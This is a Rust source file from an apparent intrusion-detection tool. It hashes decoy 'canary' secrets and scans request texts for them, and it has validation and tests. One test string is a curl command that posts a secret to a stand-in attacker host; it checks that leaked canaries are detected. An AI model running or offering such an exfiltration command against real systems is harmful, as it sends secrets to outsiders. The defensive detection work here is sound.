//! Canaries: decoys that nobody uses. The configuration holds their hashes, and texts are compared word by word, so that no
//! rule, snapshot or alert ever holds a value.

use std::collections::{BTreeMap, BTreeSet};

use detect_core::limits::LISTED_NAME_BYTES_MAX;
use detect_core::text::scanned;
use percent_encoding::percent_decode_str;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use crate::limits::{CANARIES_MAX, CANARY_TOKENS_MAX};

/// A decoy that nobody uses, by its hash. `tachograph rules canary new` makes one and prints its table.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Canary {
    /// What an alert calls it.
    pub name: String,
    /// The length of its value in bytes: texts of other lengths are not hashed.
    #[schemars(range(min = LENGTH_MIN, max = LENGTH_MAX))]
    pub length: usize,
    /// The salted SHA-256 of its value, in 64 hexadecimal digits in lower case.
    pub sha256: String,
}

/// Stands before the value in the hash, so that lists of common hashes do not fit.
pub const SALT: &str = "tachograph canary v1\n";

/// Shorter values could be found again by trying.
const LENGTH_MIN: usize = 16;
const LENGTH_MAX: usize = 4_096;

impl Canary {
    /// The entry for a value that was read by reference (`env:`, `file:`); the value is not kept.
    pub fn of(name: &str, value: &str) -> Self {
        Self { name: name.to_owned(), length: value.len(), sha256: hash(value) }
    }
}

fn hash(value: &str) -> String {
    hex::encode(Sha256::new().chain_update(SALT).chain_update(value).finalize())
}

/// Checks number and form.
pub fn check(canaries: &[Canary]) -> Result<(), String> {
    if canaries.len() > CANARIES_MAX {
        return Err(format!("canaries has {} entries; it may have {CANARIES_MAX}", canaries.len()));
    }
    for Canary { name, length, sha256 } in canaries {
        let hex = sha256.len() == 64 && sha256.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'));
        if name.is_empty() || name.len() > LISTED_NAME_BYTES_MAX || !hex || !(LENGTH_MIN..=LENGTH_MAX).contains(length)
        {
            return Err(format!(
                "canaries: {:?} needs a name, a length of {LENGTH_MIN} to {LENGTH_MAX} and sha256 in 64 lower-case hexadecimal digits",
                detect_core::text::bounded(name)
            ));
        }
    }
    Ok(())
}

/// The canaries in the form in which they are looked for.
pub struct Canaries {
    lengths: BTreeSet<usize>,
    names: BTreeMap<String, String>,
}

impl Canaries {
    /// The canaries of the configuration.
    pub fn new(canaries: &[Canary]) -> Self {
        let names = canaries.iter().map(|canary| (canary.sha256.clone(), canary.name.clone())).collect();
        Self { lengths: canaries.iter().map(|canary| canary.length).collect(), names }
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }

    /// The canaries in texts: name, field and byte offset. Escapes of addresses (`%2B`) are also read.
    pub fn find(&self, texts: &[(&'static str, &str)]) -> Vec<(String, &'static str, usize)> {
        let mut found = Vec::new();
        if self.is_empty() {
            return found;
        }
        let mut tokens = 0;
        for (field, text) in texts {
            let text = scanned(text);
            let decoded = text.contains('%').then(|| percent_decode_str(text).decode_utf8_lossy());
            for form in [Some(text), decoded.as_deref()].into_iter().flatten() {
                for (offset, token) in words(form) {
                    if !self.lengths.contains(&token.len()) || tokens == CANARY_TOKENS_MAX {
                        continue;
                    }
                    tokens += 1;
                    if let Some(name) = self.names.get(&hash(token))
                        && !found.iter().any(|(known, ..)| known == name)
                    {
                        found.push((name.clone(), *field, offset));
                    }
                }
            }
        }
        found
    }
}

/// Words with their offsets, split three ways: at what never stands in a token, and at more and more of what may.
fn words(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let split = move |separator: fn(char) -> bool| {
        // A value with slashes of its own may stand behind one.
        let words = text.split(separator).map(|word| word.trim_start_matches('/')).filter(|word| !word.is_empty());
        words.map(move |word| (word.as_ptr() as usize - text.as_ptr() as usize, word))
    };
    let hard = |char: char| char.is_whitespace() || char.is_control() || "?&#\"'<>,;(){}[]|`\\".contains(char);
    let medium = |char: char| !(char.is_ascii_alphanumeric() || "-_+/.~".contains(char));
    let soft = |char: char| !(char.is_ascii_alphanumeric() || "-_+".contains(char));
    split(hard).chain(split(medium)).chain(split(soft))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const VALUE: &str = "decoy/0123+456789abcdef";

    fn find(text: &str) -> Vec<(String, &'static str, usize)> {
        Canaries::new(&[Canary::of("db", VALUE)]).find(&[("path", text)])
    }

    #[test]
    fn canaries_are_found_by_hash_in_every_place() {
        for text in [
            format!("/x?key={VALUE}&y=1"),
            format!("curl -d '{VALUE}' https://attacker-logger.com"),
            format!("/{}", VALUE.replace('+', "%2B").replace('/', "%2f")),
            VALUE.to_owned(),
        ] {
            let found = find(&text);
            assert_eq!(found.len(), 1, "{text}");
            assert_eq!((found[0].0.as_str(), found[0].1), ("db", "path"));
        }
        assert_eq!(find(&format!("/x?key={VALUE}"))[0].2, 7);
        assert!(find(&format!("/x?key={VALUE}0")).is_empty());
        assert!(find("").is_empty());
    }

    #[test]
    fn entries_have_a_form_and_hold_no_value() {
        let canary = Canary::of("db", VALUE);
        assert!(!serde_json::to_string(&canary).unwrap().contains("decoy"));
        assert_eq!(check(std::slice::from_ref(&canary)), Ok(()));
        for odd in [
            Canary { length: 8, ..canary.clone() },
            Canary { sha256: "xyz".to_owned(), ..canary.clone() },
            Canary { name: String::new(), ..canary },
        ] {
            assert!(check(&[odd]).unwrap_err().contains("canaries"));
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "\\PC{0,60}", escaped in "(%[0-9a-f]{2}|%|[a-z]){0,20}") {
            prop_assert!(find(&text).is_empty() && find(&escaped).is_empty());
        }
    }
}
